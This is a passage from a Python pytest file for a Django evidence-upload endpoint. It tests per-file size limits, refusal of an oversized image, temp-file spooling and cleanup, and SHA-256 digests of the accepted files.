    assert SpoolSpy.spooled[2] <= 1 * MB + 64 * 1024  # tiga.pdf: only what fit the total, then deleted
    assert list(spool.iterdir()) == []


@pytest.mark.urls("tests.test_evidence")
def test_upload_handler_in_memory_uploads_skips_without_closing_kept_files(spool, settings):
    settings.NETRALITAS_EVIDENCE_MAX_FILE_BYTES = 1000
    files = [
        SimpleUploadedFile("kecil.png", png_with_metadata()),
        SimpleUploadedFile("besar.jpg", b"\xff" * 5000),
        SimpleUploadedFile("kecil2.png", png_with_metadata()),
    ]
    response = Client().post("/unggah/", {"bukti": files})
    body = response.json()
    digest = hashlib.sha256(png_with_metadata()).hexdigest()
    assert body["files"] == [["kecil.png", digest], ["kecil2.png", digest]]
    assert [r[:3] for r in body["refusals"]] == [["bukti", "besar.jpg", TOO_BIG]]
    assert SpoolSpy.spooled == []  # a small request stays in memory
